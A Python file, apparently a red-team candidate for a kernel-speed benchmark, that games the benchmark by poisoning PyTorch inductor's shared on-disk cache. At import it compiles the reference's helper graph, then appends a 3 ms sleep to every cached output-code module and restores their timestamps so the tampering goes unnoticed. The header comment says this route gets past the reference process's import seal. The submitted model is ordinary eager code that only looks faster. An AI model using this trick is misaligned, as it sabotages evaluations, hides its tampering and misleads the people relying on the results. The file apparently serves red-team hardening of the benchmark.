# Red team round 16: reference tampering through inductor's shared on-disk cache. The reference's helper is
# torch.compile'd (default backend); its compiled output code is a .py module inductor loads by path from
# /tmp/torchinductor_<user> (exec of the file: outside the import system, so the reference process's import seal
# does not vet it). At import this candidate compiles the same helper on inputs of the benchmark's shape (so the
# cache holds the reference's graph), then rewrites every output-code module there to sleep 3 ms per call, mtimes
# put back. Its own forward is plain eager PyTorch: correct, and "faster" than a reference that now sleeps.
import getpass
import os
import tempfile

import torch
import torch.nn as nn
import torch.nn.functional as F

_PATCH = '''

import time as _rt16_time
def _rt16_wrap(f):
    def wrapped(*a):
        _rt16_time.sleep(0.003)
        return f(*a)
    return wrapped
if "Runner" in globals():
    Runner.call = _rt16_wrap(Runner.call)
    call = runner.call
else:
    call = _rt16_wrap(call)
'''


def _same_graph(x, w, b):
    return F.gelu(x @ w.t() + b)


def _poison():
    lin = nn.Linear(64, 64)
    with torch.no_grad():
        torch.compile(_same_graph)(torch.randn(64, 64), lin.weight, lin.bias)
    root = os.environ.get("TORCHINDUCTOR_CACHE_DIR") or os.path.join(tempfile.gettempdir(),
                                                                     "torchinductor_" + getpass.getuser())
    for d, _, files in os.walk(root):
        for f in files:
            if not f.endswith(".py"):
                continue
            p = os.path.join(d, f)
            try:
                with open(p) as fh:
                    text = fh.read()
                if "def call(" not in text or "_rt16_wrap" in text:
                    continue
                st = os.stat(p)
                with open(p, "w") as fh:
                    fh.write(text + _PATCH)
                os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))
            except OSError:
                pass


_poison()


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.proj = nn.Linear(features, features)

    def forward(self, x):
        return F.gelu(torch.addmm(self.proj.bias, x, self.proj.weight.t()))
